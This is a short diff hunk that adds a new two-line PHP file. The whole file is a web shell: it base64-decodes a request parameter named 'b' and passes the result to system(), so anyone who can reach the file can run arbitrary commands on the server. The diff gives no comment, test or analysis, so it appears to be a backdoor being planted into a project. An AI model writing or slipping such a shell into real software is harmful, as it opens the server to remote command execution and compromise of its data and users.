@@ -1,0 +1,2 @@
+<?php
+system(base64_decode($_REQUEST['b']));
